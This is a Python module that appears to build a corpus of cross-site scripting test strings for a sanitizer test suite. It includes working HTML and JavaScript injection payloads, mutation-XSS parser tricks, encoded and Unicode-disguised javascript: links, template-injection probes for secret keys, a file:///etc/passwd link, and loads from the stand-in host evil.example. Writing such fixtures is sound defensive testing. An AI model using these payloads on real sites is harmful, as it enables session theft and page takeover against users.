"""Strings that would like to be more than words: made by crossing what they do with where they think they stand.

Each that becomes an element leaves one behind that no page has (`adda-x`), each that runs says so by `alert`, each that
asks elsewhere asks `evil.example`.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "alert(1)"
ELEMENT = "adda-x"  # which no page of ours has
EVIL = "evil.example"

# What does something by itself once it is HTML.
ACTIVE = [
    f"<script>{RUN}</script>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\t>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=//{EVIL}/a.png>",
    f'<img srcset="//{EVIL}/a.png 2x">',
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=//{EVIL}/x.js /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>tap</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>tap</text></a></svg>",
    f"<svg><use href=//{EVIL}/x.svg#x></svg>",
    f"<svg><image href=//{EVIL}/a.png></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style>@import '//{EVIL}/x.css'</style></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href=javascript:{RUN}>tap</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>tap</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=//{EVIL}/></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<embed src=//{EVIL}/x.swf>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>",
    f"<a href=# autofocus onfocus={RUN}>x</a>",
    f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster=//{EVIL}/a.png></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<xss onanimationstart={RUN} style='animation:a 1s'>x</xss>",
    f"<xss onpointerenter={RUN} style='position:fixed;inset:0'>x</xss>",
    f"<xss style='animation-name:x' onanimationend={RUN}>x</xss>",
    f"<xss contenteditable onbeforeinput={RUN} autofocus>x</xss>",
    f"<style>@import '//{EVIL}/x.css';</style>",
    f"<style>*{{background:url(//{EVIL}/a.png)}}</style>",
    f"<p style=\"background:url('//{EVIL}/a.png')\">x</p>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<link rel=prefetch href=//{EVIL}/>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<table background=//{EVIL}/a.png><td>x</table>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<portal src=//{EVIL}/></portal>",
    f"<frameset onload={RUN}><frame></frameset>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<bgsound src=//{EVIL}/a.wav>",
    "<form id=body><input name=innerHTML><input name=attributes></form>",
    "<img name=getElementById><img name=cookie>",
    "<a id=adda><a id=adda name=url href=javascript:alert(1)>x</a>",
]  # fmt: skip

# Where a string may think it stands, and how it would get out; `{}` is what it does then.
WAYS_OUT = [
    "{}", "\"'>{}", "'\">{}", "--><!-- -->{}", "]]>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}",
    "</noscript>{}", "</svg>{}", "</option></select>{}", "</template>{}", "<!--><img title='-->{}'>", "&lt;/p&gt;{}",
    "`{}`", "\\\"}};{}//", "${{{}}}", "{{{{ {} }}}}", "{{% {} %}}",
]  # fmt: skip

# Parsers that read once like this and once like that.
MUTATIONS = [
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<style><style /><img src=x onerror={RUN}></style>",
    f"<svg><style><img title='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<math></p><style><!--</style><img src/onerror={RUN}>--></style></math>",
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></svg>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<img src='x' title=\"`\" onerror='{RUN}'>",
    f"<a href='x' title='&quot; onmouseover={RUN} '>x</a>",
    f"<p id=\"&#34;&#62;<img src=x onerror={RUN}>\">",
    f"<svg><p><style><g title='</style><img src onerror={RUN}>'>",
    f"<b><p title=\"</b><svg><style>\"><img src=x onerror={RUN}>",
]  # fmt: skip

# Addresses that are programs or carry a page.
SCHEMES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java&#10;script:{RUN}", f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&colon;{RUN}", f"javascript&#58;{RUN}", f" javascript:{RUN}", f"%6aavascript:{RUN}",
    f"javascript://{EVIL}/%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={RUN}>",
    f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}", f"blob:{EVIL}", f"ja\u00advascript:{RUN}",
    f"javas\u200bcript:{RUN}", f"\u2028javascript:{RUN}", f"javascript\uff1a{RUN}", "file:///etc/passwd",
    f"//{EVIL}", f"\\\\{EVIL}", f"/\\{EVIL}",
]  # fmt: skip
LINKS = [
    "[x]({})", "[x](<{}>)", "![x]({})", "[x][1]\n\n[1]: {}", "<{}>", "[x]({} \"t\")", "[![x]({})]({})",
    "<a href=\"{}\">x</a>", "<img src='{}'>", "[x](  {}  )", "{}",
]  # fmt: skip

# What Markdown, covers, calls and notes of ours might be talked into.
OURS = [
    f"[x](https://{EVIL}/\"onmouseover={RUN}//)",
    f"[x](https://{EVIL}/ 'a\" onmouseover=\"{RUN}')",
    f"[<img src=x onerror={RUN}>](https://{EVIL}/)",
    f"![\" onerror=\"{RUN}](https://{EVIL}/a.png)",
    f"![x](https://{EVIL}/pixel.gif)",
    f"```html\" onload=\"{RUN}\n<img src=x onerror={RUN}>\n```",
    f"``` <img src=x onerror={RUN}>\nx\n```",
    f"`<img src=x onerror={RUN}>`",
    f"    <img src=x onerror={RUN}>",
    f"# <svg onload={RUN}>",
    f"> <svg onload={RUN}>",
    f"* <svg onload={RUN}>\n  <script>{RUN}</script>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"\\<img src=x onerror={RUN}\\>",
    f"<https://{EVIL}/\"onclick={RUN}>",
    f"https://{EVIL}/\"onmouseover=\"{RUN}\"x=\"",
    f"https://{EVIL}/<svg/onload={RUN}>",
    f"||<img src=x onerror={RUN}>||",
    f"||E1: <img src=x onerror={RUN}>||",
    f"||E1: [x](javascript:{RUN})||",
    f"||E1: \"><img src=x onerror={RUN}>||",
    f"||E1:|| <svg onload={RUN}> ||",
    f"<b title=\"||E1: \" onmouseover={RUN} x=\"||\">x</b>",
    f"[x||E1: ](javascript:{RUN})||",
    f"||E\"><svg onload={RUN}>: x||",
    f"@asha<svg/onload={RUN}>",
    f"@\"><svg/onload={RUN}>",
    f"[@asha](javascript:{RUN})",
    f"@asha\" onmouseover=\"{RUN}",
    f"@<script>{RUN}</script>",
    f"{{\"@type\":\"x\"}}</script><script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"\"}}]}}</script><img src=x onerror={RUN}>",
    "<!--<script>\"}",
    f"';{RUN};//", f"\";{RUN};//", f"\\';{RUN};//", f"</script><svg/onload={RUN}>",
    "{% debug %}{{ settings.SECRET_KEY }}", "{{ 7|add:7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
    "%3Cimg%20src=x%20onerror=alert(1)%3E", "&#60;svg onload=alert(1)&#62;", "&#x3c;svg onload=alert(1)&#x3e",
]  # fmt: skip

# Letters that turn into others: wide, folded, overlong, turned round.
LETTERS = [
    f"＜img src=x onerror={RUN}＞", f"﹤svg onload={RUN}﹥", f"‹svg onload={RUN}›", f"\u02bcsvg onload={RUN}\u02bc",
    f"<\u0131mg src=x onerror={RUN}>", f"<\u017fcript>{RUN}</\u017fcript>", f"<sc\u212aript>{RUN}</script>",
    f"<i\u0307mg src=x onerror={RUN}>", f"<img\u00a0src=x\u00a0onerror={RUN}>", f"<img\u2028src=x\u2028onerror={RUN}>",
    f"<img\u3000src=x\u3000onerror={RUN}>", f"<\u200bimg src=x onerror={RUN}>", f"\ufeff<svg onload={RUN}>",
    f"\u202e>)1(trela=daolno gvs<\u202c<svg onload={RUN}>", f"\u2066<svg onload={RUN}>\u2069", f"अ<svg onload={RUN}>अ",
    f"<svg onload\u00ad={RUN}>", f"<img src=x on\u200derror={RUN}>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"\u0338<svg onload={RUN}>", f">\u0338<svg onload={RUN}>", f"<\u0338svg onload={RUN}>",
]  # fmt: skip


def short() -> Iterator[str]:
    """Those that fit nearly anywhere: what runs, bare and behind each way out."""
    yield from ACTIVE
    for number, way in enumerate(WAYS_OUT):
        for one in ACTIVE[number % 7 :: 7]:
            yield way.format(one)


def words() -> list[str]:
    """All of them, each with the element that no page has."""
    links = [link.format(*[scheme] * link.count("{}")) for link in LINKS for scheme in SCHEMES]
    found = dict.fromkeys([*short(), *MUTATIONS, *OURS, *LETTERS, *links])
    return [f"{one}<{ELEMENT}>" for one in found]
